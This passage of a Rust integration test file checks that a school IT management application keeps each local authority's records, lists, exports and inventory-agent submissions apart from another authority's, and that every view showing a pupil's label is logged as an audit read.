                "/schools/{}/rooms",
                "/schools/{}/classes",
                "/schools/{}/links",
                "/schools/{}/wifi",
                "/schools/{}/probe",
            ],
        ),
        (
            "rooms",
            "SELECT r.id FROM rooms r JOIN schools s ON s.id = r.school_id WHERE s.collectivite_id = $1",
            &["/rooms/{}"],
            &["/rooms/{}"],
        ),
        (
            "classes",
            "SELECT c.id FROM classes c JOIN schools s ON s.id = c.school_id WHERE s.collectivite_id = $1",
            &["/classes/{}", "/classes/{}/tablets"],
            &["/classes/{}", "/classes/{}/pupils"],
        ),
        (
            "devices",
            "SELECT id FROM devices WHERE collectivite_id = $1",
            &["/devices/{}", "/labels?device={}"],
            &["/devices/{}", "/devices/{}/history", "/devices/{}/loans"],
        ),
        (
            "tickets",
            "SELECT id FROM tickets WHERE collectivite_id = $1",
            &["/tickets/{}"],
            &["/tickets/{}", "/tickets/{}/events"],
        ),
        (
            "contracts",
            "SELECT id FROM contracts WHERE collectivite_id = $1",
            &["/contracts/{}"],
            &["/contracts/{}", "/contracts/{}/sla-report?month=2026-11"],
        ),
        (
            "lots",
            "SELECT l.id FROM lots l JOIN contracts c ON c.id = l.contract_id WHERE c.collectivite_id = $1",
            &["/lots/{}/grid", "/lots/{}/perimeter"],
            &[],
        ),
        (
            "pupils",
            "SELECT id FROM pupils WHERE collectivite_id = $1",
            &["/pupils/{}", "/pupils/{}/export"],
            &[],
        ),
        (
            "loans",
            "SELECT id FROM loans WHERE collectivite_id = $1",
            &["/loans/{}"],
            &[],
        ),
        (
            "users",
            "SELECT id FROM users WHERE collectivite_id = $1",
            &["/admin/users/{}"],
            &["/users/{}"],
        ),
        (
            "visio sessions",
            "SELECT v.id FROM visio_sessions v JOIN schools s ON s.id = v.school_id WHERE s.collectivite_id = $1",
            &["/visio/sessions/{}"],
            &[],
        ),
        (
            "bookings",
            "SELECT k.id FROM bookings k JOIN schools s ON s.id = k.school_id WHERE s.collectivite_id = $1",
            &["/reservations/{}"],
            &[],
        ),
        (
            "bookables",
            "SELECT id FROM bookables WHERE collectivite_id = $1",
            &[
                "/reservations/ressources/{}",
                "/reservations/new?bookable={}",
            ],
            &[],
        ),
        (
            "needs campaigns",
            "SELECT id FROM needs_campaigns WHERE collectivite_id = $1",
            &["/needs/{}"],
            &[],
        ),
        (
            "subsidies",
            "SELECT id FROM subsidies WHERE collectivite_id = $1",
            &["/funding/{}"],
            &[],
        ),
    ];
    let mut leaks = Vec::new();
    let mut probes = 0;
    for (me, them, password) in [(ours, theirs, "demo"), (theirs, ours, "voisin-demo-2026")] {
        let s = app.login("admin", password).await;
        let who: i64 = s.get("/api/v1/me").await.status.as_u16().into();
        assert_eq!(who, 401, "the API takes tokens, not the session");
        let u = preau_core::users::find_by_login_in(&app.db, me, "admin")
            .await
            .unwrap()
            .unwrap();
        let token = {
            let sys = preau_domain::Principal::system(me, "test");
            preau_core::write_tx!(app.db, tx => preau_core::users::auth::create_token(tx, &sys, u.id, "t", now).await?).unwrap()
        };
        for (kind, sql, pages, api) in kinds {
            let list = ids_of(&app, sql, them).await;
            assert!(!list.is_empty(), "the other collectivité has {kind}");
            // A few of each kind, first and last.
            let sample: Vec<i64> = list
                .iter()
                .take(3)
                .chain(list.iter().rev().take(2))
                .copied()
                .collect();
            for id in sample {
                for p in pages.iter() {
                    let path = p.replace("{}", &id.to_string());
                    let st = s.get(&path).await.status.as_u16();
                    probes += 1;
                    if st != 404 {
                        leaks.push(format!("{kind}: page {path} answered {st}"));
                    }
                }
                for p in api.iter() {
                    let path = format!("/api/v1{}", p.replace("{}", &id.to_string()));
                    let st = app
                        .api(&token, Method::GET, &path, None)
                        .await
                        .status
                        .as_u16();
                    probes += 1;
                    if st != 404 {
                        leaks.push(format!("{kind}: API {path} answered {st}"));
                    }
                }
            }
        }
        // Lists and searches name only one's own objects (by id: the names are the same).
        for (path, sql) in [
            (
                "/api/v1/schools?limit=500",
                "SELECT id FROM schools WHERE collectivite_id = $1",
            ),
            (
                "/api/v1/devices?limit=500&search=VDE",
                "SELECT id FROM devices WHERE collectivite_id = $1",
            ),
            (
                "/api/v1/tickets?limit=500&status=all",
                "SELECT id FROM tickets WHERE collectivite_id = $1",
            ),
            (
                "/api/v1/loans?limit=500",
                "SELECT id FROM loans WHERE collectivite_id = $1",
            ),
            (
                "/api/v1/users",
                "SELECT id FROM users WHERE collectivite_id = $1",
            ),
            (
                "/api/v1/contracts",
                "SELECT id FROM contracts WHERE collectivite_id = $1",
            ),
            (
                "/api/v1/visio/sessions?limit=500",
                "SELECT v.id FROM visio_sessions v JOIN schools s ON s.id = v.school_id WHERE s.collectivite_id = $1",
            ),
            (
                "/api/v1/bookable",
                "SELECT id FROM bookables WHERE collectivite_id = $1",
            ),
            (
                "/api/v1/bookings?limit=500",
                "SELECT k.id FROM bookings k JOIN schools s ON s.id = k.school_id WHERE s.collectivite_id = $1",
            ),
            (
                "/api/v1/needs",
                "SELECT id FROM needs_campaigns WHERE collectivite_id = $1",
            ),
            (
                "/api/v1/subsidies",
                "SELECT id FROM subsidies WHERE collectivite_id = $1",
            ),
            (
                "/api/v1/outages",
                "SELECT id FROM schools WHERE collectivite_id = $1",
            ),
            (
                "/api/v1/connectivity",
                "SELECT id FROM schools WHERE collectivite_id = $1",
            ),
        ] {
            // Outages and connection states say their school.
            let key = if path.contains("outages") || path.contains("connectivity") {
                "school_id"
            } else {
                "id"
            };
            let r = app.api(&token, Method::GET, path, None).await;
            assert_eq!(r.status, 200, "{path}: {}", r.body);
            let v: serde_json::Value = serde_json::from_str(&r.body).unwrap();
            let got: Vec<i64> = v["items"]
                .as_array()
                .unwrap()
                .iter()
                .filter_map(|i| i[key].as_i64())
                .collect();
            let own = ids_of(&app, sql, me).await;
            assert!(
                !got.is_empty() || own.is_empty(),
                "{path} lists something: {}",
                &r.body[..r.body.len().min(300)]
            );
            probes += 1;
            if let Some(x) = got.iter().find(|id| !own.contains(id)) {
                leaks.push(format!("list {path} names {x}, not of collectivité {me}"));
            }
        }
        // The spreadsheet of the fleet counts one's own devices only.
        let csv = s.get("/devices/export/materiel.csv").await;
        let rows = csv.body.lines().count() as i64 - 1;
        let own = ids_of(
            &app,
            "SELECT id FROM devices WHERE collectivite_id = $1",
            me,
        )
        .await
        .len() as i64;
        probes += 1;
        if rows > own {
            leaks.push(format!(
                "the fleet's export has {rows} rows for {own} devices"
            ));
        }
    }
    assert!(
        leaks.is_empty(),
        "{} of {probes} probes crossed:\n{}",
        leaks.len(),
        leaks.join("\n")
    );
    assert!(probes > 300, "{probes}");
    // An agent of theirs posting one of our machines' DEVICEID files a machine of theirs,
    // leaving ours as it was.
    let (device_id, version): (String, i64) = with_db!(&app.db, p => sqlx::query_as("SELECT agent_device_id, version FROM devices WHERE collectivite_id = $1 AND agent_device_id IS NOT NULL ORDER BY id LIMIT 1").bind(ours).fetch_one(p).await.unwrap());
    let auth = format!(
        "Basic {}",
        base64::engine::general_purpose::STANDARD.encode(format!("agent:{secret}"))
    );
    let r = crate::inventory::post_agent(
        &app,
        "/ocsinventory",
        &[
            ("authorization", auth.as_str()),
            ("content-type", "application/xml"),
            ("user-agent", "OCS-NG_unified_unix_agent_v2.10.0"),
        ],
        ocs_inventory(&device_id, "pc-voisin-usurpe", None, None, None, Some(3)),
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.body);
    let after: i64 = with_db!(&app.db, p => sqlx::query_scalar("SELECT version FROM devices WHERE collectivite_id = $1 AND agent_device_id = $2").bind(ours).bind(&device_id).fetch_one(p).await.unwrap());
    assert_eq!(after, version, "our machine untouched");
    let filed: i64 = with_db!(&app.db, p => sqlx::query_scalar("SELECT COUNT(*) FROM devices WHERE collectivite_id = $1 AND agent_device_id = $2").bind(theirs).bind(&device_id).fetch_one(p).await.unwrap());
    assert_eq!(filed, 1, "filed as theirs");
}

/// Every page, export and API read that shows a pupil's label writes its `read_pupils`
/// entry: each address below is read, and if the answer (its cells, for a workbook) holds
/// the pupil's label, the log must have grown.
#[tokio::test]
async fn every_answer_showing_pupil_labels_logs_its_read() {
    let app = TestApp::demo().await;
    // A pupil of this year holding a tablet of their own.
    let (pupil, label, class, school, loan, device): (i64, String, i64, i64, i64, i64) = with_db!(&app.db, p => {
        sqlx::query_as("SELECT p.id, p.label, p.class_id, p.school_id, l.id, l.device_id FROM pupils p JOIN loans l ON l.pupil_id = p.id AND l.returned_on IS NULL JOIN school_years y ON y.id = p.school_year_id WHERE p.label IS NOT NULL AND y.label = '2026-2027' ORDER BY p.id LIMIT 1").fetch_one(p).await.unwrap()
    });
    let s = app.login("admin", "demo").await;
    let token = app.token("admin").await;
    let reads = "SELECT COUNT(*) FROM audit_log WHERE action = 'read_pupils'";
    let pages = [
        format!("/classes/{class}"),
        format!("/classes/{class}/tablets"),
        format!("/classes/{class}/pupils/csv"),
        format!("/classes/{class}/pupils/xlsx"),
        format!("/schools/{school}/loans"),
        format!("/schools/{school}/loans/csv"),
        format!("/schools/{school}/loans/xlsx"),
        format!("/loans/{loan}"),
        format!("/pupils/{pupil}"),
        format!("/pupils/{pupil}/export"),
        format!("/devices/{device}"),
        format!("/schools/{school}"),
    ];
    let api = [
        format!("/api/v1/classes/{class}/pupils"),
        format!("/api/v1/loans?school={school}&limit=500"),
        format!("/api/v1/devices/{device}/loans"),
        format!("/api/v1/devices/{device}"),
    ];
    let shows = |body: &str, bytes: &[u8]| {
        body.contains(&label)
            || body.contains(&label.replace('\'', "&#x27;"))
            || (bytes.starts_with(b"PK")
                && crate::harness::xlsx_sheets(bytes)
                    .iter()
                    .any(|(_, t)| t.contains(&label)))
    };
    let mut showing = 0;
    let mut unlogged = Vec::new();
    for (path, api) in pages
        .iter()
        .map(|p| (p, false))
        .chain(api.iter().map(|p| (p, true)))
    {
        let before = app.scalar(reads).await;
        let r = if api {
            app.api(&token, Method::GET, path, None).await
        } else {
            s.get(path).await
        };
        assert_eq!(r.status, 200, "{path}");
        if shows(&r.body, &r.bytes) {
            showing += 1;
            if app.scalar(reads).await == before {
                unlogged.push(path.clone());
            }
        }
    }
    assert!(
        unlogged.is_empty(),
        "labels shown without a read logged: {unlogged:?}"
    );
    assert!(showing >= 10, "{showing} answers showed the label");
}
